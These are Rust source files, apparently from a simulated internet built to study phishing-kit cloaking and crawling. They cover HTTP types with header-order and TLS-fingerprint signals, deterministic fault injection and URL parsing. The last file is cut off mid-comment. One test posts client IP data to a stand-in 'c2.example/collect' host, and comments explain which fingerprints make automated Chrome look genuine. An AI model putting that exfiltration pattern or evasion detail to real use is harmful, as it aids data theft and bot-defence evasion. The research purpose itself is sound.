//! HTTP request/response types with the bot-detection-relevant surface:
//! **ordered** headers (header-order inspection is an AnonWAF signal), a
//! TLS fingerprint (JA3-like), and the client's source address.

use crate::ip::IpAddress;
use crate::url::Url;
use serde::{Deserialize, Serialize};
use std::fmt;

/// A JA3-style TLS client fingerprint. Real browsers, automation stacks and
/// HTTP libraries each produce stable, distinguishable values; WAFs compare
/// the fingerprint against the claimed User-Agent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum TlsFingerprint {
    /// Genuine Chrome TLS stack.
    ChromeReal,
    /// Chrome driven over CDP: same TLS stack as real Chrome.
    ChromeCdp,
    /// Legacy automation stacks that terminate TLS differently (older
    /// headless builds, proxied capture setups).
    HeadlessLegacy,
    /// A plain HTTP client library (curl/reqwest-style).
    LibraryClient,
}

impl fmt::Display for TlsFingerprint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            TlsFingerprint::ChromeReal => "tls:chrome",
            TlsFingerprint::ChromeCdp => "tls:chrome",
            TlsFingerprint::HeadlessLegacy => "tls:headless-legacy",
            TlsFingerprint::LibraryClient => "tls:library",
        })
    }
}

impl TlsFingerprint {
    /// `true` when the fingerprint is indistinguishable from desktop Chrome
    /// (CDP-driven Chrome shares the real stack).
    pub fn looks_like_chrome(self) -> bool {
        matches!(self, TlsFingerprint::ChromeReal | TlsFingerprint::ChromeCdp)
    }
}

/// An HTTP request with ordered headers.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HttpRequest {
    /// `GET` or `POST`.
    pub method: String,
    /// Absolute target URL.
    pub url: Url,
    /// Headers in wire order.
    pub headers: Vec<(String, String)>,
    /// Request body (POST data, AJAX payloads).
    pub body: Vec<u8>,
    /// Source address (resolved through [`crate::IpSpace`] classes).
    pub client_ip: IpAddress,
    /// The client's TLS fingerprint.
    pub tls: TlsFingerprint,
    /// Zero-based retry index, consulted by the fault injector (a flaky
    /// URL stops faulting once `attempt` reaches its consecutive-failure
    /// count). Not a wire header, so it never perturbs the header-order
    /// fingerprint.
    #[serde(default)]
    pub attempt: u32,
}

impl HttpRequest {
    /// A plain GET with browser-default headers from a residential-looking
    /// client. Builder methods refine it.
    ///
    /// # Panics
    ///
    /// Panics if `url` does not parse — requests are built from
    /// already-validated pipeline URLs.
    pub fn get(url: &str) -> HttpRequest {
        HttpRequest {
            method: "GET".to_string(),
            url: Url::parse(url).expect("caller provides a valid url"),
            headers: vec![
                ("Host".to_string(), String::new()),
                ("User-Agent".to_string(), "Mozilla/5.0".to_string()),
                ("Accept".to_string(), "text/html,*/*".to_string()),
                ("Accept-Language".to_string(), "en-US".to_string()),
            ],
            body: Vec::new(),
            client_ip: IpAddress(78 << 24 | 1),
            tls: TlsFingerprint::ChromeReal,
            attempt: 0,
        }
    }

    /// A POST with the given body.
    ///
    /// # Panics
    ///
    /// Panics if `url` does not parse.
    pub fn post(url: &str, body: &[u8]) -> HttpRequest {
        let mut r = HttpRequest::get(url);
        r.method = "POST".to_string();
        r.body = body.to_vec();
        r
    }

    /// Replace or append a header, preserving the position of an existing
    /// one (header order is a fingerprinting signal).
    pub fn set_header(&mut self, name: &str, value: &str) -> &mut Self {
        match self
            .headers
            .iter_mut()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
        {
            Some((_, v)) => *v = value.to_string(),
            None => self.headers.push((name.to_string(), value.to_string())),
        }
        self
    }

    /// First value of a header (case-insensitive).
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// The `User-Agent` value (empty when absent).
    pub fn user_agent(&self) -> &str {
        self.header("User-Agent").unwrap_or("")
    }

    /// Comma-joined lowercased header names in wire order — the AnonWAF
    /// header-order signal.
    pub fn header_order_signature(&self) -> String {
        self.headers
            .iter()
            .map(|(n, _)| n.to_ascii_lowercase())
            .collect::<Vec<_>>()
            .join(",")
    }
}

/// An HTTP response.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HttpResponse {
    /// Status code.
    pub status: u16,
    /// Headers in wire order.
    pub headers: Vec<(String, String)>,
    /// Body bytes.
    pub body: Vec<u8>,
}

impl HttpResponse {
    /// A 200 response with the given content type.
    pub fn ok(content_type: &str, body: Vec<u8>) -> HttpResponse {
        HttpResponse {
            status: 200,
            headers: vec![("Content-Type".to_string(), content_type.to_string())],
            body,
        }
    }

    /// An HTML 200.
    pub fn html(body: &str) -> HttpResponse {
        HttpResponse::ok("text/html", body.as_bytes().to_vec())
    }

    /// A redirect to `location`.
    pub fn redirect(location: &str) -> HttpResponse {
        HttpResponse {
            status: 302,
            headers: vec![("Location".to_string(), location.to_string())],
            body: Vec::new(),
        }
    }

    /// A 404.
    pub fn not_found() -> HttpResponse {
        HttpResponse {
            status: 404,
            headers: Vec::new(),
            body: b"not found".to_vec(),
        }
    }

    /// A 403 (blocked by filtering).
    pub fn forbidden() -> HttpResponse {
        HttpResponse {
            status: 403,
            headers: Vec::new(),
            body: b"forbidden".to_vec(),
        }
    }

    /// First value of a header (case-insensitive).
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// Body as lossy UTF-8.
    pub fn body_text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }

    /// `true` for 3xx with a Location header.
    pub fn is_redirect(&self) -> bool {
        (300..400).contains(&self.status) && self.header("Location").is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn get_has_browser_default_headers() {
        let r = HttpRequest::get("https://x.example/p");
        assert_eq!(r.method, "GET");
        assert_eq!(r.user_agent(), "Mozilla/5.0");
        assert_eq!(
            r.header_order_signature(),
            "host,user-agent,accept,accept-language"
        );
    }

    #[test]
    fn set_header_preserves_position() {
        let mut r = HttpRequest::get("https://x.example/");
        r.set_header("user-agent", "CustomBot/1.0");
        assert_eq!(r.user_agent(), "CustomBot/1.0");
        assert_eq!(
            r.header_order_signature(),
            "host,user-agent,accept,accept-language"
        );
        r.set_header("Cache-Control", "no-cache");
        assert!(r.header_order_signature().ends_with(",cache-control"));
    }

    #[test]
    fn response_constructors() {
        assert_eq!(HttpResponse::html("<p>x</p>").status, 200);
        let r = HttpResponse::redirect("https://next.example/");
        assert!(r.is_redirect());
        assert_eq!(r.header("location"), Some("https://next.example/"));
        assert_eq!(HttpResponse::not_found().status, 404);
        assert_eq!(HttpResponse::forbidden().status, 403);
    }

    #[test]
    fn tls_fingerprint_chrome_equivalence() {
        assert!(TlsFingerprint::ChromeReal.looks_like_chrome());
        assert!(TlsFingerprint::ChromeCdp.looks_like_chrome());
        assert!(!TlsFingerprint::HeadlessLegacy.looks_like_chrome());
        assert_eq!(
            TlsFingerprint::ChromeReal.to_string(),
            TlsFingerprint::ChromeCdp.to_string()
        );
    }

    #[test]
    fn post_carries_body() {
        let r = HttpRequest::post("https://c2.example/collect", b"ip=1.2.3.4");
        assert_eq!(r.method, "POST");
        assert_eq!(r.body, b"ip=1.2.3.4");
    }
}
