//! Deterministic transient-fault injection.
//!
//! The live Internet the paper's CrawlerBox crawled is unreliable: DNS
//! lookups time out, origins reset connections, rate-limiters answer
//! 429/503, kits stall or truncate responses. This module reproduces that
//! adversity *deterministically*: whether a request faults is a pure
//! function of `(plan seed, host, path, query, attempt)`, so parallel and
//! serial scans observe identical faults, and a supervisor that retries
//! with a fresh attempt index is guaranteed to converge on a fault-free
//! request once the per-URL consecutive-failure count is exhausted.
//!
//! Faults are decided **before any side effect** — before DNS resolution,
//! passive-DNS recording or handler dispatch — so a faulted request leaves
//! the world untouched and a retry observes pristine state. This is what
//! makes exact recovery of the §V class mix possible under fault sweeps.

use crate::http::{HttpRequest, HttpResponse};
use cb_sim::{SeedFork, SimDuration};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;

/// Response header marking a synthesized fault response (429/503/truncated
/// bodies). Never emitted by real site handlers, so its presence is
/// reliable transient-failure evidence for the crawl supervisor.
pub const FAULT_HEADER: &str = "X-Injected-Fault";

/// Response header carrying simulated first-byte latency in whole seconds,
/// charged against the visitor's time budget.
pub const LATENCY_HEADER: &str = "X-Sim-Latency-Secs";

/// The transient fault taxonomy (DESIGN.md "Fault model & resilience").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FaultKind {
    /// The DNS lookup never answered.
    DnsTimeout,
    /// TCP connection reset by peer.
    ConnectionReset,
    /// TLS handshake failure.
    TlsHandshake,
    /// HTTP 429 with a `Retry-After` header.
    RateLimited,
    /// HTTP 503 with a `Retry-After` header.
    ServiceUnavailable,
    /// The first byte stalls past the client's patience; the connection is
    /// abandoned after the stall is charged to the time budget.
    SlowFirstByte,
    /// A 200 whose body is cut short of its declared `Content-Length`.
    TruncatedBody,
}

impl FaultKind {
    /// Every kind, in a stable order.
    pub const ALL: [FaultKind; 7] = [
        FaultKind::DnsTimeout,
        FaultKind::ConnectionReset,
        FaultKind::TlsHandshake,
        FaultKind::RateLimited,
        FaultKind::ServiceUnavailable,
        FaultKind::SlowFirstByte,
        FaultKind::TruncatedBody,
    ];

    /// Stable kebab-case label (used in log provenance and fault headers).
    pub fn label(self) -> &'static str {
        match self {
            FaultKind::DnsTimeout => "dns-timeout",
            FaultKind::ConnectionReset => "connection-reset",
            FaultKind::TlsHandshake => "tls-handshake",
            FaultKind::RateLimited => "rate-limited",
            FaultKind::ServiceUnavailable => "service-unavailable",
            FaultKind::SlowFirstByte => "slow-first-byte",
            FaultKind::TruncatedBody => "truncated-body",
        }
    }
}

impl fmt::Display for FaultKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// A transport-level failure: the request never produced an HTTP response.
/// Only ever produced by the fault injector — a genuine NXDOMAIN still
/// surfaces as a status-0 response, so the two are never confused.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct NetError {
    /// What failed.
    pub kind: FaultKind,
    /// Simulated time the client lost before giving up.
    pub latency: SimDuration,
}

impl fmt::Display for NetError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} after {}", self.kind, self.latency)
    }
}

impl std::error::Error for NetError {}

/// Fault behaviour for one host (or the plan-wide default).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FaultProfile {
    /// Fraction of URLs that are flaky, in `[0, 1]`.
    pub rate: f64,
    /// A flaky URL fails its first 1..=`max_consecutive` attempts (the
    /// exact count is drawn deterministically per URL), then succeeds.
    /// Recovery is guaranteed for supervisors allowing at least this many
    /// retries.
    pub max_consecutive: u32,
    /// Which fault kinds this profile draws from.
    pub kinds: Vec<FaultKind>,
    /// Stall charged by [`FaultKind::SlowFirstByte`].
    pub slow_latency: SimDuration,
    /// `Retry-After` value on 429/503 responses, in seconds.
    pub retry_after_secs: u32,
}

impl Default for FaultProfile {
    fn default() -> FaultProfile {
        FaultProfile {
            rate: 0.0,
            max_consecutive: 2,
            kinds: FaultKind::ALL.to_vec(),
            slow_latency: SimDuration::seconds(30),
            retry_after_secs: 5,
        }
    }
}

impl FaultProfile {
    /// The default profile at the given fault rate.
    pub fn with_rate(rate: f64) -> FaultProfile {
        assert!((0.0..=1.0).contains(&rate), "fault rate in [0, 1]");
        FaultProfile {
            rate,
            ..FaultProfile::default()
        }
    }
}

/// A seeded fault plan: a default profile plus per-host overrides.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FaultPlan {
    seed: u64,
    default: FaultProfile,
    hosts: HashMap<String, FaultProfile>,
}

impl FaultPlan {
    /// A plan applying `profile` to every host.
    pub fn new(seed: u64, profile: FaultProfile) -> FaultPlan {
        FaultPlan {
            seed,
            default: profile,
            hosts: HashMap::new(),
        }
    }

    /// A plan with the default profile at `rate` for every host.
    pub fn uniform(seed: u64, rate: f64) -> FaultPlan {
        FaultPlan::new(seed, FaultProfile::with_rate(rate))
    }

    /// Override the profile for one host.
    pub fn with_host(mut self, host: &str, profile: FaultProfile) -> FaultPlan {
        self.hosts.insert(host.to_ascii_lowercase(), profile);
        self
    }

    /// The profile governing `host`.
    pub fn profile_for(&self, host: &str) -> &FaultProfile {
        self.hosts
            .get(&host.to_ascii_lowercase())
            .unwrap_or(&self.default)
    }

    /// Decide the fate of `req`. `None` means no fault: dispatch normally.
    /// `Some(Err(_))` is a transport-level failure, `Some(Ok(_))` a
    /// synthesized fault response (429/503/truncated body). The decision is
    /// a pure function of the plan seed, the URL and `req.attempt`.
    pub fn decide(&self, req: &HttpRequest) -> Option<Result<HttpResponse, NetError>> {
        let profile = self.profile_for(&req.url.host);
        if profile.rate <= 0.0 || profile.kinds.is_empty() {
            return None;
        }
        let fork = SeedFork::new(self.seed);
        let key = format!("{}{}?{}", req.url.host, req.url.path, req.url.query);
        // Flakiness, failure count and kind come from independent label
        // hashes so the three draws do not correlate.
        let flaky = (fork.seed(&key) % 10_000) as f64 / 10_000.0 < profile.rate;
        if !flaky {
            return None;
        }
        let consecutive =
            1 + (fork.seed(&format!("{key}#count")) % u64::from(profile.max_consecutive.max(1)))
                as u32;
        if req.attempt >= consecutive {
            return None;
        }
        let kind = profile.kinds
            [(fork.seed(&format!("{key}#kind")) as usize) % profile.kinds.len()];
        Some(synthesize(kind, profile))
    }
}

/// Materialize one fault as what the client observes.
fn synthesize(kind: FaultKind, profile: &FaultProfile) -> Result<HttpResponse, NetError> {
    let err = |latency_secs: i64| NetError {
        kind,
        latency: SimDuration::seconds(latency_secs),
    };
    match kind {
        FaultKind::DnsTimeout => Err(err(5)),
        FaultKind::ConnectionReset => Err(err(1)),
        FaultKind::TlsHandshake => Err(err(1)),
        FaultKind::SlowFirstByte => Err(NetError {
            kind,
            latency: profile.slow_latency,
        }),
        FaultKind::RateLimited | FaultKind::ServiceUnavailable => {
            let status = if kind == FaultKind::RateLimited { 429 } else { 503 };
            Ok(HttpResponse {
                status,
                headers: vec![
                    ("Retry-After".to_string(), profile.retry_after_secs.to_string()),
                    (FAULT_HEADER.to_string(), kind.label().to_string()),
                    (LATENCY_HEADER.to_string(), "1".to_string()),
                ],
                body: format!("{status} try later").into_bytes(),
            })
        }
        FaultKind::TruncatedBody => {
            let body = b"<html><head><title>loadi".to_vec();
            Ok(HttpResponse {
                status: 200,
                headers: vec![
                    ("Content-Type".to_string(), "text/html".to_string()),
                    ("Content-Length".to_string(), "4096".to_string()),
                    (FAULT_HEADER.to_string(), kind.label().to_string()),
                    (LATENCY_HEADER.to_string(), "2".to_string()),
                ],
                body,
            })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(url: &str, attempt: u32) -> HttpRequest {
        let mut r = HttpRequest::get(url);
        r.attempt = attempt;
        r
    }

    #[test]
    fn zero_rate_never_faults() {
        let plan = FaultPlan::uniform(1, 0.0);
        for i in 0..200 {
            assert!(plan.decide(&req(&format!("https://h{i}.example/p"), 0)).is_none());
        }
    }

    #[test]
    fn full_rate_faults_every_first_attempt() {
        let plan = FaultPlan::uniform(1, 1.0);
        for i in 0..50 {
            assert!(plan.decide(&req(&format!("https://h{i}.example/p"), 0)).is_some());
        }
    }

    #[test]
    fn decisions_are_deterministic() {
        let a = FaultPlan::uniform(7, 0.3);
        let b = FaultPlan::uniform(7, 0.3);
        for i in 0..100 {
            let r = req(&format!("https://host{i}.example/x?q={i}"), 0);
            assert_eq!(a.decide(&r).is_some(), b.decide(&r).is_some());
        }
    }

    #[test]
    fn different_seeds_pick_different_urls() {
        let a = FaultPlan::uniform(1, 0.3);
        let b = FaultPlan::uniform(2, 0.3);
        let differs = (0..200).any(|i| {
            let r = req(&format!("https://host{i}.example/x"), 0);
            a.decide(&r).is_some() != b.decide(&r).is_some()
        });
        assert!(differs);
    }

    #[test]
    fn rate_is_roughly_honoured() {
        let plan = FaultPlan::uniform(42, 0.2);
        let faulted = (0..1000)
            .filter(|i| plan.decide(&req(&format!("https://h{i}.example/p"), 0)).is_some())
            .count();
        assert!((130..=270).contains(&faulted), "{faulted}/1000 at rate 0.2");
    }

    #[test]
    fn flaky_urls_recover_within_max_consecutive() {
        let plan = FaultPlan::uniform(3, 1.0);
        for i in 0..50 {
            let url = format!("https://h{i}.example/p");
            assert!(plan.decide(&req(&url, 0)).is_some(), "attempt 0 faults");
            let max = plan.profile_for("any").max_consecutive;
            assert!(
                plan.decide(&req(&url, max)).is_none(),
                "attempt {max} must be clean"
            );
        }
    }

    #[test]
    fn per_host_overrides_apply() {
        let plan = FaultPlan::uniform(5, 0.0)
            .with_host("flaky.example", FaultProfile::with_rate(1.0));
        assert!(plan.decide(&req("https://flaky.example/a", 0)).is_some());
        assert!(plan.decide(&req("https://solid.example/a", 0)).is_none());
    }

    #[test]
    fn synthesized_responses_are_marked() {
        let profile = FaultProfile::with_rate(1.0);
        for kind in [FaultKind::RateLimited, FaultKind::ServiceUnavailable] {
            let resp = synthesize(kind, &profile).unwrap();
            assert_eq!(resp.header(FAULT_HEADER), Some(kind.label()));
            assert_eq!(resp.header("Retry-After"), Some("5"));
        }
        let trunc = synthesize(FaultKind::TruncatedBody, &profile).unwrap();
        let declared: usize = trunc.header("Content-Length").unwrap().parse().unwrap();
        assert!(trunc.body.len() < declared, "body really is short");
        for kind in [FaultKind::DnsTimeout, FaultKind::SlowFirstByte] {
            let err = synthesize(kind, &profile).unwrap_err();
            assert_eq!(err.kind, kind);
            assert!(err.latency > SimDuration::ZERO);
        }
    }
}
