//! URLs and domain names.
//!
//! [`Url`] carries what the pipeline analyzes: scheme, host, path, query —
//! and the path *token* that tokenized phishing URLs key on
//! (`https://evil-site.com/dhfYWfH`, §III-B). [`DomainName`] adds the
//! registrable-domain and TLD splits Table II is built from.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// A parsed absolute http(s) URL.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Url {
    /// `http` or `https`.
    pub scheme: String,
    /// Lowercased host.
    pub host: String,
    /// Path beginning with `/` (never empty).
    pub path: String,
    /// Query string without the leading `?` (empty when absent).
    pub query: String,
}

/// Failure to parse a URL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseUrlError {
    /// Human-readable reason.
    pub reason: &'static str,
}

impl fmt::Display for ParseUrlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid url: {}", self.reason)
    }
}

impl std::error::Error for ParseUrlError {}

impl Url {
    /// Parse an absolute URL.
    ///
    /// # Errors
    ///
    /// Returns [`ParseUrlError`] for non-http(s) schemes or empty hosts.
    pub fn parse(s: &str) -> Result<Url, ParseUrlError> {
        let (scheme, rest) = s.split_once("://").ok_or(ParseUrlError {
            reason: "missing scheme",
        })?;
        if scheme != "http" && scheme != "https" {
            return Err(ParseUrlError {
                reason: "unsupported scheme",
            });
        }
        // The host ends at the first '/', '?' or '#': "https://h?a=1" is a
        // query on the implicit "/" path, not part of the host.
        let (host_part, suffix) = match rest.find(['/', '?', '#']) {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, ""),
        };
        if host_part.is_empty() {
            return Err(ParseUrlError {
                reason: "empty host",
            });
        }
        let path_query = if suffix.starts_with('/') {
            suffix.to_string()
        } else {
            format!("/{suffix}")
        };
        let (path, query) = match path_query.split_once('?') {
            Some((p, q)) => (p.to_string(), q.to_string()),
            None => (path_query, String::new()),
        };
        Ok(Url {
            scheme: scheme.to_string(),
            host: host_part.to_ascii_lowercase(),
            path,
            query,
        })
    }

    /// The host as a [`DomainName`].
    pub fn domain(&self) -> DomainName {
        DomainName::new(&self.host)
    }

    /// The first path segment when it looks like an access token: a single
    /// segment of 6+ alphanumeric characters with no file extension. This is
    /// the tokenized-URL pattern used for server-side cloaking (§III-B).
    pub fn path_token(&self) -> Option<&str> {
        let seg = self.path.trim_start_matches('/');
        let seg = seg.split('/').next().unwrap_or("");
        if seg.len() >= 6
            && seg.bytes().all(|b| b.is_ascii_alphanumeric())
        {
            Some(seg)
        } else {
            None
        }
    }

    /// Value of query parameter `name`, if present.
    pub fn query_param(&self, name: &str) -> Option<&str> {
        self.query.split('&').find_map(|pair| {
            let (k, v) = pair.split_once('=')?;
            (k == name).then_some(v)
        })
    }
}

impl FromStr for Url {
    type Err = ParseUrlError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Url::parse(s)
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}://{}{}", self.scheme, self.host, self.path)?;
        if !self.query.is_empty() {
            write!(f, "?{}", self.query)?;
        }
        Ok(())
    }
}

/// A DNS domain name with registrable-domain/TLD accessors.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct DomainName(String);

/// Multi-label public suffixes we recognize (the corpus uses `.com.br`
/// under Table II's `.br` rank).
const MULTI_LABEL_SUFFIXES: &[&str] = &["com.br", "co.uk", "com.au"];

impl DomainName {
    /// Construct (lowercases).
    pub fn new(name: &str) -> DomainName {
        DomainName(name.to_ascii_lowercase())
    }

    /// The full name.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The public-suffix/TLD part, with the leading dot (e.g. `.com`,
    /// `.br` for `x.com.br`).
    pub fn tld(&self) -> String {
        for suffix in MULTI_LABEL_SUFFIXES {
            if self.0.ends_with(&format!(".{suffix}")) {
                // Table II reports ccTLD rank by final label.
                let last = suffix.rsplit('.').next().expect("nonempty suffix");
                return format!(".{last}");
            }
        }
        match self.0.rfind('.') {
            Some(i) => self.0[i..].to_string(),
            None => String::new(),
        }
    }

    /// The registrable domain (eTLD+1): `login.evil.example` → `evil.example`.
    pub fn registrable(&self) -> String {
        let labels: Vec<&str> = self.0.split('.').collect();
        for suffix in MULTI_LABEL_SUFFIXES {
            if self.0.ends_with(&format!(".{suffix}")) || self.0 == *suffix {
                let n = suffix.split('.').count() + 1;
                if labels.len() >= n {
                    return labels[labels.len() - n..].join(".");
                }
            }
        }
        if labels.len() >= 2 {
            labels[labels.len() - 2..].join(".")
        } else {
            self.0.clone()
        }
    }

    /// `true` for punycode (IDNA `xn--`) labels — the paper found **zero**
    /// of these among 522 landing domains.
    pub fn has_punycode(&self) -> bool {
        self.0.split('.').any(|l| l.starts_with("xn--"))
    }
}

impl fmt::Display for DomainName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl From<&str> for DomainName {
    fn from(s: &str) -> Self {
        DomainName::new(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_full_url() {
        let u = Url::parse("https://Login.Evil.example/dhfYWfH?user=bob&x=1").unwrap();
        assert_eq!(u.scheme, "https");
        assert_eq!(u.host, "login.evil.example");
        assert_eq!(u.path, "/dhfYWfH");
        assert_eq!(u.query_param("user"), Some("bob"));
        assert_eq!(u.query_param("x"), Some("1"));
        assert_eq!(u.query_param("nope"), None);
    }

    #[test]
    fn bare_host_gets_root_path() {
        let u = Url::parse("http://x.example").unwrap();
        assert_eq!(u.path, "/");
        assert_eq!(u.to_string(), "http://x.example/");
    }

    #[test]
    fn display_round_trips() {
        for s in [
            "https://a.example/",
            "https://a.example/p/q",
            "https://a.example/p?x=1&y=2",
        ] {
            assert_eq!(Url::parse(s).unwrap().to_string(), s);
        }
    }

    #[test]
    fn rejects_bad_urls() {
        assert!(Url::parse("ftp://x.example/").is_err());
        assert!(Url::parse("no-scheme").is_err());
        assert!(Url::parse("https:///path").is_err());
    }

    #[test]
    fn path_token_detection() {
        assert_eq!(
            Url::parse("https://e.example/dhfYWfH").unwrap().path_token(),
            Some("dhfYWfH")
        );
        // short, non-alphanumeric, or structured paths are not tokens
        assert_eq!(Url::parse("https://e.example/login").unwrap().path_token(), None);
        assert_eq!(Url::parse("https://e.example/a.html").unwrap().path_token(), None);
        assert_eq!(Url::parse("https://e.example/").unwrap().path_token(), None);
        assert_eq!(
            Url::parse("https://e.example/Abc123XY/page").unwrap().path_token(),
            Some("Abc123XY")
        );
    }

    #[test]
    fn tld_extraction() {
        assert_eq!(DomainName::new("evil.com").tld(), ".com");
        assert_eq!(DomainName::new("a.b.evil.ru").tld(), ".ru");
        assert_eq!(DomainName::new("shop.evil.com.br").tld(), ".br");
        assert_eq!(DomainName::new("localhost").tld(), "");
    }

    #[test]
    fn registrable_domain() {
        assert_eq!(DomainName::new("login.evil.example").registrable(), "evil.example");
        assert_eq!(DomainName::new("evil.example").registrable(), "evil.example");
        assert_eq!(DomainName::new("a.b.evil.com.br").registrable(), "evil.com.br");
    }

    #[test]
    fn punycode_detection() {
        assert!(DomainName::new("xn--pple-43d.com").has_punycode());
        assert!(DomainName::new("login.xn--e1awd7f.ru").has_punycode());
        assert!(!DomainName::new("apple.com").has_punycode());
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;

    #[test]
    fn query_without_path_does_not_pollute_host() {
        let u = Url::parse("https://evil.example?a=1").unwrap();
        assert_eq!(u.host, "evil.example");
        assert_eq!(u.path, "/");
        assert_eq!(u.query_param("a"), Some("1"));
    }

    #[test]
    fn fragment_without_path_does_not_pollute_host() {
        let u = Url::parse("https://evil.example#frag").unwrap();
        assert_eq!(u.host, "evil.example");
        assert!(u.path.starts_with("/#") || u.path == "/");
    }
}
