//! The shared world: clock + registries + hosted sites, behind one
//! thread-safe facade.

use crate::ca::{Certificate, CertificateAuthority};
use crate::dns::{DnsService, PassiveDnsLedger, QueryVolume};
use crate::faults::{FaultPlan, NetError, FAULT_HEADER};
use crate::http::{HttpRequest, HttpResponse};
use crate::ip::{IpAddress, IpClass, IpSpace};
use crate::url::DomainName;
use crate::whois::{DomainRegistry, WhoisRecord};
use cb_sim::{Clock, SimDuration, SimTime};
use parking_lot::RwLock;
use std::collections::HashMap;
use std::sync::Arc;

/// Read-only view handed to site handlers: what a server can see of the
/// world (time, and the requesting client's classification).
#[derive(Debug)]
pub struct NetContext<'a> {
    /// Current simulated time.
    pub now: SimTime,
    /// ASN class of the requesting client.
    pub client_class: IpClass,
    /// The domain the request was routed to.
    pub domain: &'a DomainName,
}

/// A hosted site: takes requests, returns responses. Handlers use interior
/// mutability for state (visit counters, token burn lists) because crawls
/// run concurrently.
pub trait SiteHandler: Send + Sync {
    /// Serve one request.
    fn handle(&self, req: &HttpRequest, ctx: &NetContext<'_>) -> HttpResponse;
}

impl<F> SiteHandler for F
where
    F: Fn(&HttpRequest, &NetContext<'_>) -> HttpResponse + Send + Sync,
{
    fn handle(&self, req: &HttpRequest, ctx: &NetContext<'_>) -> HttpResponse {
        self(req, ctx)
    }
}

/// The §IV-C enrichment bundle for one host: everything the logging phase
/// looks up about a landing domain, fetched in one call so callers can
/// memoize it per scan. Every field is a pure function of the registries at
/// lookup time — crawling never mutates WHOIS, CT or banner state, and the
/// passive-DNS window ends at delivery time, before any crawl-time traffic
/// is recorded (the study clock sits past every delivery instant).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct HostEnrichment {
    /// WHOIS record of the host's domain, if registered.
    pub whois: Option<WhoisRecord>,
    /// First CT-log certificate for the host, if any was issued.
    pub first_certificate: Option<Certificate>,
    /// Passive-DNS query volume over the requested window.
    pub dns_volume: QueryVolume,
    /// Shodan-style service banner, if published.
    pub banner: Option<String>,
}

/// The simulated internet.
pub struct Internet {
    clock: Arc<Clock>,
    ip_space: IpSpace,
    registry: RwLock<DomainRegistry>,
    ca: RwLock<CertificateAuthority>,
    dns: RwLock<DnsService>,
    passive_dns: RwLock<PassiveDnsLedger>,
    sites: RwLock<HashMap<DomainName, Arc<dyn SiteHandler>>>,
    banners: RwLock<HashMap<DomainName, String>>,
    fault_plan: RwLock<Option<FaultPlan>>,
}

impl std::fmt::Debug for Internet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Internet")
            .field("now", &self.clock.now())
            .field("domains", &self.registry.read().len())
            .field("sites", &self.sites.read().len())
            .finish()
    }
}

impl Internet {
    /// A world starting at `t0`.
    pub fn new(t0: SimTime) -> Internet {
        Internet {
            clock: Arc::new(Clock::starting_at(t0)),
            ip_space: IpSpace::new(),
            registry: RwLock::new(DomainRegistry::new()),
            ca: RwLock::new(CertificateAuthority::new()),
            dns: RwLock::new(DnsService::new()),
            passive_dns: RwLock::new(PassiveDnsLedger::new()),
            sites: RwLock::new(HashMap::new()),
            banners: RwLock::new(HashMap::new()),
            fault_plan: RwLock::new(None),
        }
    }

    /// Install a transient-fault plan. Subsequent requests pass through the
    /// injector before DNS resolution or handler dispatch, so faulted
    /// requests leave no trace in the world.
    pub fn set_fault_plan(&self, plan: FaultPlan) {
        *self.fault_plan.write() = Some(plan);
    }

    /// Remove the fault plan (the network becomes perfectly reliable again).
    pub fn clear_fault_plan(&self) {
        *self.fault_plan.write() = None;
    }

    /// `true` when a fault plan is installed.
    pub fn fault_plan_active(&self) -> bool {
        self.fault_plan.read().is_some()
    }

    /// The shared clock.
    pub fn clock(&self) -> &Arc<Clock> {
        &self.clock
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.clock.now()
    }

    /// Advance simulated time.
    pub fn advance(&self, d: SimDuration) -> SimTime {
        self.clock.advance(d)
    }

    /// Allocate a client address of the given class.
    pub fn allocate_ip(&self, class: IpClass) -> IpAddress {
        self.ip_space.allocate(class)
    }

    /// Register `domain` now through `registrar`; also binds it in DNS to a
